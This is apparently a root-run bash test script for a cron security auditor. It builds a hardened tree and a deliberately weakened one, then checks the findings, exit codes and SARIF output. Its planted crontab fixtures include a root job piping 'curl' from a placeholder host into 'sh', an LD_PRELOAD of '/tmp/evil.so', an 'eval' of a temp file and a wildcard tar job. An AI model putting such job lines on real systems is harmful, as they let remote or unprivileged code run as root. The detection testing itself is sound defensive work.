#!/bin/bash
# test_audit.sh - `cronguard audit --root` on trees built here (ownership
# and modes matter, so they are made with chown/chmod in a temp dir, not
# stored): a hardened clean tree gives zero findings and exit 0; a tree with
# every weakness class planted gives each with its ID, file and line (lines
# found with grep in the planted file, so the test checks the reported line
# against the file's content); JSON parses; SARIF has the structure SARIF
# 2.1.0 requires and the official SARIF 2.1.0 schema accepts it (sarif_schema.py).
set -u
cg=${CRONGUARD:?}
[ "$(id -u)" = 0 ] || { echo "needs root (chown)"; exit 1; }
tmp=$(mktemp -d /tmp/cg-audit.XXXXXX)
trap 'rm -rf "$tmp"' EXIT
fail=0

mkclean() {
	local r=$1
	mkdir -p "$r"/etc/{cron.d,cron.hourly,cron.daily,cron.weekly,cron.monthly,cron.yearly,pam.d,audit/rules.d} \
		"$r"/var/spool/cron/crontabs "$r"/usr/local/sbin "$r"/usr/bin "$r"/bin "$r"/tmp \
		"$r"/home/alice/bin "$r"/srv "$r"/opt/tool "$r"/root
	chmod 0755 "$r" "$r"/etc "$r"/usr "$r"/usr/local "$r"/usr/local/sbin "$r"/usr/bin "$r"/bin "$r"/var \
		"$r"/var/spool "$r"/var/spool/cron "$r"/home "$r"/srv "$r"/opt "$r"/opt/tool
	chmod 1777 "$r"/tmp
	cat >"$r"/etc/passwd <<'P'
root:x:0:0:root:/root:/bin/bash
daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin
alice:x:1000:1000:Alice:/home/alice:/bin/bash
bob:x:1001:1001:Bob:/home/bob:/bin/bash
mallory:x:1002:1002::/home/mallory:/bin/bash
P
	cat >"$r"/etc/group <<'G'
root:x:0:
daemon:x:1:
crontab:x:101:
alice:x:1000:
bob:x:1001:
mallory:x:1002:
G
	printf '/bin/sh\n/bin/bash\n/usr/bin/bash\n' >"$r"/etc/shells
	cat >"$r"/etc/crontab <<'C'
SHELL=/bin/sh
PATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin
17 *	* * *	root	cd / && run-parts --report /etc/cron.hourly
25 6	* * *	root	test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }
C
	printf '#!/bin/sh\nexit 0\n' >"$r"/usr/local/sbin/backup
	printf '#!/bin/sh\nexit 0\n' >"$r"/usr/bin/true
	printf '#!/bin/sh\nexit 0\n' >"$r"/usr/bin/run-parts
	chmod 0755 "$r"/usr/local/sbin/backup "$r"/usr/bin/true "$r"/usr/bin/run-parts
	printf '0 3 * * * root /usr/local/sbin/backup --full\n' >"$r"/etc/cron.d/backup
	printf '#!/bin/sh\nexit 0\n' >"$r"/etc/cron.daily/logrotate
	chmod 0700 "$r"/etc/cron.daily/logrotate
	printf 'PATH=/usr/bin:/bin\n0 * * * * /usr/bin/true\n' >"$r"/var/spool/cron/crontabs/alice
	chown 1000:101 "$r"/var/spool/cron/crontabs/alice
	chmod 0600 "$r"/var/spool/cron/crontabs/alice "$r"/etc/crontab "$r"/etc/cron.d/backup
	chmod 0700 "$r"/etc/cron.d "$r"/etc/cron.hourly "$r"/etc/cron.daily "$r"/etc/cron.weekly \
		"$r"/etc/cron.monthly "$r"/etc/cron.yearly
	chown root:101 "$r"/var/spool/cron/crontabs
	chmod 1730 "$r"/var/spool/cron/crontabs
	printf 'alice\n' >"$r"/etc/cron.allow
	chown root:101 "$r"/etc/cron.allow
	chmod 0640 "$r"/etc/cron.allow
	cat >"$r"/etc/pam.d/cron <<'M'
account  required pam_cronguard.so
@include common-account
session  required pam_loginuid.so
M
	printf 'account [success=1 default=ignore] pam_unix.so\naccount requisite pam_deny.so\naccount required pam_permit.so\n' \
		>"$r"/etc/pam.d/common-account
	"$cg" gen audit-rules >"$r"/etc/audit/rules.d/50-cronguard.rules
	chown -R alice:alice "$r"/home/alice 2>/dev/null || chown -R 1000:1000 "$r"/home/alice
	chmod 0755 "$r"/home/alice "$r"/home/alice/bin
}

findings() { # root [args] -> "ID FILE LINE" lines
	local r=$1; shift
	"$cg" audit --root "$r" --format json "$@" >"$tmp/out.json"
	echo $? >"$tmp/rc"
	python3 - "$tmp/out.json" <<'PY'
import json, sys
d = json.load(open(sys.argv[1], encoding="utf-8", errors="strict"))
for f in d["findings"]:
    for k in ("id", "rule", "severity", "title", "file", "line", "evidence", "fix", "reference"):
        assert k in f, (k, f)
    assert f["severity"] in ("info", "low", "medium", "high", "critical"), f
    assert f["evidence"] and f["fix"], f
    print(f["id"], f["file"], f["line"])
assert d["count"] == len(d["findings"])
PY
}

expect() { # ID FILE LINE
	if ! grep -qx "$1 $2 $3" "$tmp/found"; then
		echo "MISSING: $1 $2:$3"; fail=1
	fi
}
line_of() { grep -n -F -- "$2" "$1" | head -1 | cut -d: -f1; }

# ---- clean tree: zero findings, exit 0, in every format ----
clean=$tmp/clean
mkclean "$clean"
findings "$clean" >"$tmp/found" || { echo "JSON invalid"; fail=1; }
if [ -s "$tmp/found" ] || [ "$(cat "$tmp/rc")" != 0 ]; then
	echo "clean tree has findings (exit $(cat "$tmp/rc")):"; cat "$tmp/found"
	"$cg" audit --root "$clean"
	fail=1
fi
"$cg" audit --root "$clean" >"$tmp/text" || { echo "text: exit $?"; fail=1; }
grep -q '^0 findings' "$tmp/text" || { echo "text summary"; cat "$tmp/text"; fail=1; }

# ---- planted tree ----
p=$tmp/planted
mkclean "$p"
jobs=$p/etc/cron.d/jobs
cat >"$jobs" <<'J'
PATH=/usr/bin:.:/bin
LD_PRELOAD=/tmp/evil.so
SHELL=/bin/zsh
0 1 * * * root /opt/tool/run
0 2 * * * root scripts/x.sh
0 4 * * * root cd /srv && tar czf /root/w.tgz *
0 5 * * * root cd /tmp && ls
0 6 * * * root . /srv/env.sh
0 7 * * * root curl -s http://example.invalid/i | sh
0 8 * * * root eval "$(cat /tmp/cmd)"
0 9 * * * root /usr/bin/true --config=/srv/app.conf
0 10 * * * root /tmp/cleanup.sh
0 11 * * * root nice -n 5 tool --daily
J
chmod 0600 "$jobs"
printf '#!/bin/sh\n' >"$p"/opt/tool/run; chmod 0755 "$p"/opt/tool/run
chown 1001 "$p"/opt/tool                                   # 005: bob owns the dir
printf 'X=1\n' >"$p"/srv/env.sh; chmod 0666 "$p"/srv/env.sh   # 009
printf 'x=1\n' >"$p"/srv/app.conf; chown 1002 "$p"/srv/app.conf # 009 by option
# 005 through PATH and a symbolic link: /usr/bin/tool -> /srv/bobtool (bob's)
printf '#!/bin/sh\n' >"$p"/srv/bobtool; chown 1001 "$p"/srv/bobtool; ln -s ../../srv/bobtool "$p"/usr/bin/tool
# cron.d link to a root file: followed, its jobs audited
printf '0 12 * * * root /tmp/linked.sh\n' >"$p"/etc/linked-target; chmod 0600 "$p"/etc/linked-target
ln -s ../linked-target "$p"/etc/cron.d/linked
printf '0 1 * * * root /bin/true\n' >"$p"/etc/cron.d/owned; chown 1000 "$p"/etc/cron.d/owned; chmod 0600 "$p"/etc/cron.d/owned
chmod 0722 "$p"/etc/cron.weekly                              # 002
chmod 0644 "$p"/etc/crontab                                  # 003
printf '#!/bin/sh\n' >"$p"/etc/cron.daily/evil; chmod 0777 "$p"/etc/cron.daily/evil   # 004
printf '#!/bin/sh\n' >"$p"/etc/cron.daily/backup.sh; chmod 0700 "$p"/etc/cron.daily/backup.sh # 018
printf '61 * * * * root /bin/true\n' >"$p"/etc/cron.d/broken; chmod 0600 "$p"/etc/cron.d/broken  # 017
printf '0 1 * * * root /bin/true\n' >"$p"/etc/cron.d/old.dpkg-old                               # 018
printf '0 9 * * * root /bin/true\033[2K\n' >"$p"/etc/cron.d/ctl; chmod 0600 "$p"/etc/cron.d/ctl   # 019
# allow/deny: no cron.allow (012), cron.deny with bad mode (013) and lines (014)
rm "$p"/etc/cron.allow
printf 'mallory\nbob \ncarol' >"$p"/etc/cron.deny; chmod 0666 "$p"/etc/cron.deny
# spool: mallory is denied but has a crontab (015), orphan and bad mode (016),
# alice: @reboot from her home (020, 021)
printf '@reboot /home/alice/bin/start caf\351 \033[8m\n' >"$p"/var/spool/cron/crontabs/alice
printf '#!/bin/sh\n' >"$p"/home/alice/bin/start; chown 1000 "$p"/home/alice/bin/start; chmod 0755 "$p"/home/alice/bin/start
printf '0 * * * * /usr/bin/true\n' >"$p"/var/spool/cron/crontabs/mallory
chown 1002 "$p"/var/spool/cron/crontabs/mallory; chmod 0600 "$p"/var/spool/cron/crontabs/mallory
printf '0 * * * * /usr/bin/true\n' >"$p"/var/spool/cron/crontabs/ghost; chmod 0600 "$p"/var/spool/cron/crontabs/ghost
printf '0 * * * * /usr/bin/true\n' >"$p"/var/spool/cron/crontabs/bob; chown 1001 "$p"/var/spool/cron/crontabs/bob; chmod 0644 "$p"/var/spool/cron/crontabs/bob
# PAM without account checks, loginuid or cronguard (022-024); no audit rules (025)
printf 'account required pam_permit.so\nsession required pam_env.so\n' >"$p"/etc/pam.d/cron
rm "$p"/etc/audit/rules.d/50-cronguard.rules

findings "$p" >"$tmp/found" || { echo "JSON invalid"; fail=1; }
[ "$(cat "$tmp/rc")" = 1 ] || { echo "planted tree: exit $(cat "$tmp/rc"), want 1"; fail=1; }
J=/etc/cron.d/jobs
expect CG-AUD-001 /etc/cron.d/owned 0
expect CG-AUD-002 /etc/cron.weekly 0
expect CG-AUD-003 /etc/crontab 0
expect CG-AUD-004 /etc/cron.daily/evil 0
expect CG-AUD-005 $J "$(line_of "$jobs" /opt/tool/run)"
expect CG-AUD-005 $J "$(line_of "$jobs" /tmp/cleanup.sh)"
expect CG-AUD-005 $J "$(line_of "$jobs" 'tool --daily')"
expect CG-AUD-005 /etc/cron.d/linked 1
expect CG-AUD-006 $J "$(line_of "$jobs" PATH=)"
expect CG-AUD-006 $J "$(line_of "$jobs" scripts/x.sh)"
expect CG-AUD-007 $J "$(line_of "$jobs" 'tar czf')"
expect CG-AUD-008 $J "$(line_of "$jobs" 'cd /tmp')"
expect CG-AUD-009 $J "$(line_of "$jobs" env.sh)"
expect CG-AUD-009 $J "$(line_of "$jobs" app.conf)"
expect CG-AUD-010 $J "$(line_of "$jobs" LD_PRELOAD)"
expect CG-AUD-010 $J "$(line_of "$jobs" SHELL=)"
expect CG-AUD-011 $J "$(line_of "$jobs" curl)"
expect CG-AUD-011 $J "$(line_of "$jobs" eval)"
expect CG-AUD-012 /etc/cron.allow 0
expect CG-AUD-013 /etc/cron.deny 0
expect CG-AUD-014 /etc/cron.deny 2
expect CG-AUD-014 /etc/cron.deny 3
expect CG-AUD-015 /var/spool/cron/crontabs/mallory 0
expect CG-AUD-016 /var/spool/cron/crontabs/ghost 0
expect CG-AUD-016 /var/spool/cron/crontabs/bob 0
expect CG-AUD-017 /etc/cron.d/broken 1
expect CG-AUD-018 /etc/cron.d/old.dpkg-old 0
expect CG-AUD-018 /etc/cron.daily/backup.sh 0
expect CG-AUD-019 /etc/cron.d/ctl 1
expect CG-AUD-020 /var/spool/cron/crontabs/alice 1
expect CG-AUD-021 /var/spool/cron/crontabs/alice 1
expect CG-AUD-022 /etc/pam.d/cron 0
expect CG-AUD-023 /etc/pam.d/cron 0
expect CG-AUD-024 /etc/pam.d/cron 0
expect CG-AUD-025 /etc/audit/rules.d 0
# Nothing reported for what is sound in the planted tree.
grep -q ' /etc/cron.d/backup ' "$tmp/found" && { echo "false positive on cron.d/backup"; fail=1; }
grep -q ' /var/spool/cron/crontabs/mallory [1-9]' "$tmp/found" && { echo "false positive in mallory's jobs"; fail=1; }

expect CG-AUD-019 /var/spool/cron/crontabs/alice 1
"$cg" audit --root "$p" >"$tmp/text"
grep -q $'\033' "$tmp/text" && { echo "text report passes a file's escape sequence to the terminal"; fail=1; }

# ---- --cronie: uid-0 system jobs reported (026) ----
findings "$clean" --cronie >"$tmp/found"
expect CG-AUD-026 /etc/crontab 3
expect CG-AUD-026 /etc/cron.d/backup 1
grep -q "CG-AUD-026 /var/spool" "$tmp/found" && { echo "026 on a user crontab"; fail=1; }

# cronie reads names Debian skips: the .dpkg-old file's root job runs there.
findings "$p" --cronie >"$tmp/found"
expect CG-AUD-026 /etc/cron.d/old.dpkg-old 1
expect CG-AUD-017 /etc/cron.d/broken 1
grep -q "CG-AUD-018 /etc/cron.d/old.dpkg-old" "$tmp/found" && { echo "cronie reads .dpkg-old files"; fail=1; }

# ---- --policy: scripts outside exec dirs (027) ----
cat >"$tmp/policy.conf" <<'P'
[default]
exec = /usr /bin /sbin
[user root]
exec += /etc/cron.hourly /etc/cron.daily
P
printf '@daily /home/alice/bin/start\n' >"$clean"/var/spool/cron/crontabs/alice
printf '#!/bin/sh\n' >"$clean"/home/alice/bin/start; chown 1000 "$clean"/home/alice/bin/start
findings "$clean" --policy "$tmp/policy.conf" >"$tmp/found"
expect CG-AUD-027 /var/spool/cron/crontabs/alice 1
grep -q "CG-AUD-027 /etc/cron.d/backup" "$tmp/found" && { echo "027 for a program under /usr"; fail=1; }

# ---- SARIF 2.1.0 structure ----
"$cg" audit --root "$p" --format sarif >"$tmp/out.sarif"
python3 - "$tmp/out.sarif" <<'PY' || fail=1
import json, sys
s = json.load(open(sys.argv[1], encoding="utf-8", errors="strict"))
assert s["version"] == "2.1.0"
assert s["$schema"].endswith("sarif-2.1.0.json")
assert isinstance(s["runs"], list) and len(s["runs"]) == 1
run = s["runs"][0]
drv = run["tool"]["driver"]
assert isinstance(drv["name"], str) and drv["name"]
ids = [r["id"] for r in drv["rules"]]
assert len(ids) == len(set(ids)) and all(isinstance(i, str) for i in ids)
for r in drv["rules"]:
    assert r["shortDescription"]["text"]
    assert r["defaultConfiguration"]["level"] in ("none", "note", "warning", "error")
assert run["results"], "no results"
for res in run["results"]:
    assert isinstance(res["message"]["text"], str) and res["message"]["text"]
    assert res["level"] in ("none", "note", "warning", "error")
    assert ids[res["ruleIndex"]] == res["ruleId"]
    for loc in res["locations"]:
        pl = loc["physicalLocation"]
        assert pl["artifactLocation"]["uri"].startswith("file:///")
        if "region" in pl:
            assert isinstance(pl["region"]["startLine"], int) and pl["region"]["startLine"] >= 1
print("SARIF structure ok:", len(run["results"]), "results")
PY
# ... and the official SARIF 2.1.0 JSON schema accepts it.
python3 "$(dirname "$0")/sarif_schema.py" "$tmp/out.sarif" || fail=1

# ---- errors: exit 2 ----
"$cg" audit --root "$tmp/nonexistent" >/dev/null 2>&1; [ $? = 2 ] || { echo "missing root: not exit 2"; fail=1; }
"$cg" audit --format xml >/dev/null 2>&1; [ $? = 2 ] || { echo "bad format: not exit 2"; fail=1; }
exit $fail
